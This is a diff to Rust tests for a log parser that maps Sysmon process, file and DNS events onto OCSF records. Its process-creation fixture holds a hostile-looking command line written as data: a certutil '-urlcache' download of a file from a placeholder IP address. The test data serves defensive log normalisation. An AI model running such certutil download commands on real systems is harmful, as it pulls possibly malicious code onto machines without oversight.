@@ -177,11 +177,11 @@ const TABLE: &[(&str, &str, Option<&str>, u64, u64)] = &[
         1,
     ),
     (
-        "Sysmon process creation falls back to Base Event",
+        "Sysmon process creation maps to Process Activity",
         "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-03-02T09:31:00.000000000Z'/><EventRecordID>120</EventRecordID><Correlation/><Execution ProcessID='2980' ThreadID='3712'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0412.corp.test</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data></EventData></Event>",
         None,
-        0,
-        99,
+        1007,
+        1,
     ),
 ];
 
@@ -726,4 +726,84 @@ fn utc_offset_shifts_classic_text_only() {
     let xml = TABLE[0].1;
     let instant = crate::timestamp::Timestamp::from_civil(2026, 3, 2, 7, 15, 44, 901_224_600).millis();
     assert_eq!(testing::time_at_offset(META.id, xml, 120), instant);
+}
+
+fn sysmon_event(id: u32, data: &str) -> String {
+    xml_event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", id, Some("S-1-5-18"), data)
+}
+
+#[test]
+fn sysmon_process_create_maps_to_process_launch() {
+    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data>\
+                <Data Name='ProcessGuid'>{5b0c2e7a-1f00-66aa-7c01-000000003100}</Data><Data Name='ProcessId'>9044</Data>\
+                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data>\
+                <Data Name='CommandLine'>certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin</Data>\
+                <Data Name='CurrentDirectory'>C:\\Users\\t.ngata\\</Data><Data Name='User'>LAB\\t.ngata</Data>\
+                <Data Name='IntegrityLevel'>High</Data>\
+                <Data Name='Hashes'>MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,SHA256=AA11BB22CC33DD44EE55FF6600112233445566778899AABBCCDDEEFF00112233</Data>\
+                <Data Name='ParentProcessGuid'>{5b0c2e7a-1e00-66aa-7b01-000000003100}</Data><Data Name='ParentProcessId'>0x1a2c</Data>\
+                <Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c run.bat</Data>\
+                <Data Name='ParentUser'>LAB\\svc-deploy</Data>";
+    let ocsf = only_record(&sysmon_event(1, data));
+    assert_eq!(ocsf["class_uid"], 1007);
+    assert_eq!(ocsf["activity_id"], 1);
+    assert_eq!(ocsf["process"]["pid"], 9044);
+    assert_eq!(ocsf["process"]["name"], "certutil.exe");
+    assert_eq!(ocsf["process"]["cmd_line"], "certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin");
+    assert_eq!(ocsf["process"]["user"]["name"], "t.ngata");
+    assert_eq!(ocsf["process"]["integrity_id"], 4);
+    assert_eq!(ocsf["process"]["file"]["hashes"][1]["algorithm_id"], 3);
+    assert_eq!(ocsf["process"]["parent_process"]["pid"], 0x1a2c);
+    assert_eq!(ocsf["process"]["parent_process"]["name"], "cmd.exe");
+    assert_eq!(ocsf["actor"]["process"]["name"], "cmd.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "svc-deploy");
+    assert_eq!(ocsf["actor"]["user"]["domain"], "LAB");
+}
+
+#[test]
+fn sysmon_process_terminate_maps_to_terminate() {
+    let data = "<Data Name='ProcessId'>9044</Data><Data Name='Image'>C:\\Tools\\job.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let ocsf = only_record(&sysmon_event(5, data));
+    assert_eq!(ocsf["class_uid"], 1007);
+    assert_eq!(ocsf["activity_id"], 2);
+    assert_eq!(ocsf["process"]["path"], "C:\\Tools\\job.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "t.ngata");
+}
+
+#[test]
+fn sysmon_file_events_map_to_file_activity() {
+    let data = "<Data Name='ProcessId'>512</Data><Data Name='Image'>C:\\Windows\\explorer.exe</Data>\
+                <Data Name='TargetFilename'>C:\\Users\\t.ngata\\Downloads\\invoice.js</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let created = only_record(&sysmon_event(11, data));
+    assert_eq!(created["class_uid"], 1001);
+    assert_eq!(created["activity_id"], 1);
+    assert_eq!(created["file"]["name"], "invoice.js");
+    assert_eq!(created["actor"]["process"]["pid"], 512);
+    for id in [23, 26] {
+        let deleted = only_record(&sysmon_event(id, data));
+        assert_eq!(deleted["class_uid"], 1001, "{id}");
+        assert_eq!(deleted["activity_id"], 4, "{id}");
+        assert_eq!(deleted["file"]["is_deleted"], true, "{id}");
+    }
+}
+
+#[test]
+fn sysmon_dns_query_maps_to_dns_activity() {
+    let data = "<Data Name='ProcessId'>9044</Data><Data Name='QueryName'>files.example.net</Data>\
+                <Data Name='QueryStatus'>0</Data><Data Name='QueryResults'>type:  5 edge.example.org;::ffff:198.51.100.61;2001:db8::7;</Data>\
+                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let ocsf = only_record(&sysmon_event(22, data));
+    assert_eq!(ocsf["class_uid"], 4003);
+    assert_eq!(ocsf["query"]["hostname"], "files.example.net");
+    assert_eq!(ocsf["rcode_id"], 0);
+    assert_eq!(ocsf["answers"][0]["type"], "CNAME");
+    assert_eq!(ocsf["answers"][0]["rdata"], "edge.example.org");
+    assert_eq!(ocsf["answers"][1]["rdata"], "198.51.100.61");
+    assert_eq!(ocsf["answers"][2]["type"], "AAAA");
+    assert_eq!(ocsf["actor"]["process"]["name"], "certutil.exe");
+
+    let missing = data.replace("<Data Name='QueryStatus'>0</Data>", "<Data Name='QueryStatus'>9003</Data>");
+    let ocsf = only_record(&sysmon_event(22, &missing));
+    assert_eq!(ocsf["rcode_id"], 3);
+    assert_eq!(ocsf["status_id"], 2);
 }
